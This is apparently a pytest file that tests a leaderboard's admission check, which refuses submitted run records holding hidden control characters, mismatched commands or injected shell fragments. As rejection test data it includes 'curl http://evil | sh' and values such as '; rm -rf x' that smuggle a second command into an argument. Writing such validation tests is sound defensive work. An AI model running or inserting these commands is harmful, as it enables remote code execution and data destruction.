"""Texts of records that people copy or read, and the weights and seeds that belong to them."""

from __future__ import annotations

import pytest
from built_records import TO_ITS_END
from formalbench.contracts.errors import RequestError
from formalbench.contracts.record import CohortMember
from formalbench_leaderboard.publishing.record_check import Admission


def test_a_text_that_shows_something_else_is_refused(host, make_record):
    record = make_record()
    machine = record.environment.model_copy(update={"hardware": "\u202ea chip"})
    for change in ({"environment": machine}, {"message": "\x1b[2J"}):
        with pytest.raises(RequestError, match="characters that are not allowed"):
            Admission(host).check(record.model_copy(update=change))
    with pytest.raises(RequestError, match="the recorded command does not match"):
        Admission(host).check(make_record(command="curl http://evil | sh"))


@pytest.mark.parametrize(
    ("more", "taken"),
    [
        ("--plugin mine.py", True),
        ("--plugin ../bad/mine.py", True),
        ("--plugin 'a; rm -rf'", False),
        ("--plugin -x", False),
        ("--plugin", False),
        ("; rm -rf x", False),
        ("'", False),
    ],
)
def test_a_command_may_name_plugins_and_nothing_else(host, make_record, more, taken):
    record = make_record(seed=1)
    told = record.model_copy(update={"command": f"{record.command} {more}"})
    if taken:
        Admission(host).check(told)
    else:
        with pytest.raises(RequestError, match="command"):
            Admission(host).check(told)
    itself = record.command.replace("--seeds 2", "--seeds 1,")
    Admission(host).check(record.model_copy(update={"command": itself}))


def test_the_weights_of_seed_0_are_not_left_out(host, make_record, monkeypatch):
    Admission(host).check(make_record())  # too large to be kept
    made = host.models.get("regulargpt")[0].spec.factory.__init__.__globals__
    monkeypatch.setitem(made, "LARGE", 10)
    with pytest.raises(RequestError, match="it names no weights"):
        Admission(host).check(make_record(parameters=10))
    Admission(host).check(make_record(seed=1, parameters=10))
    Admission(host).check(make_record(status="error", parameters=0))
    monkeypatch.setitem(made, "LARGE", 1 << 26)
    with pytest.raises(RequestError, match="larger than weights can be"):
        Admission(host).check(make_record(parameters=1 << 26))


def test_all_runs_of_a_cohort_are_published(host, make_runs):
    runs = make_runs(training=TO_ITS_END)
    cohort = tuple(CohortMember(learning_rate=0.001, seed=seed) for seed in (0, 3))
    trained = runs[0].training.model_copy(update={"cohort": cohort})
    told = [runs[0].model_copy(update={"training": trained}), *runs[1:]]
    (line,) = Admission(host).incomplete(told, [])
    assert "seed 3 at learning rate 0.001 missing, which others trained together with" in line
